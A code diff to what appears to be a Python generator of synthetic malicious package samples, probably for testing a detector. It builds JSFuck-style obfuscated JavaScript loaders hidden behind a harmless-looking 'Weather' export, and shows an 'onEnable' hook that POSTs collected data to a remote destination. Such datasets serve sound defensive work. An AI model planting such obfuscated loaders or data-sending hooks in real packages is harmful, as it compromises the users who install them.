@@ -44,7 +44,7 @@ def _from_nothing(text: str) -> str:
     for letter in text:
         found = next(((name, word.index(letter)) for name, word in sources.items() if letter in word), None)
         if found:
-            spelled.append(f"{found[0]}[{'+'.join(['!![]'] * found[1]) or '+[]'}]")
+            spelled.append(f"{found[0]}[{''.join(['+!![]'] * found[1]) or '+[]'}]")
         elif letter.isalpha() and letter.islower():
             spelled.append(f"({ord(letter) - 87})[S](36)")
         else:
@@ -346,7 +346,7 @@ exports.onEnable = () => send(where, {{ method: 'POST', body: pick(g, {_hash("JS
         family="remote-code",
         files={
             "dist/index.js": "'use strict';\nexports.Weather = () => null;\n"
-            + "const $=[],_=![]+$,__=!![]+$,___=$[$]+$,____={}+$,S="
+            "const $=[],_=![]+$,__=!![]+$,___=$[$]+$,____={}+$,S="
             + _from_nothing("to")
             + "+(($+$)["
             + _from_nothing("constructor")
